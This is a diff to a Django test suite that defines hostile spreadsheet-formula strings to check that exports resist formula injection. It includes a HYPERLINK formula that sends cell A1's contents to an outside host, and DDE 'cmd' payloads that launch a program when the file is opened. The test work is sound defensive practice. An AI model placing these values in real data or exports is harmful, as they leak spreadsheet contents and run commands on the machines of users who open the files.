@@ -31,7 +31,7 @@ pytestmark = pytest.mark.django_db
 
 # One hostile text per way of starting a formula, each recognisable in the exports.
 HOSTILE = {
-    "=": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    "=": '=HYPERLINK("http://x.cn/?"&A1,"点")',  # fits a 50-character name
     "+": "+cmd|' /C calc'!A0",
     "-": "-2+3+cmd|' /C calc'!A0",
     "@": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -63,7 +63,7 @@ def hostile(scored, tree, users):  # noqa: F811
         group=group,
         name=_hostile("="),
         name_en=_hostile("+"),
-        unit=_hostile("-"),
+        unit=_hostile("\r"),  # 20 characters at most
         help_text=_hostile("@"),
         minimum=Decimal(-5),
     )
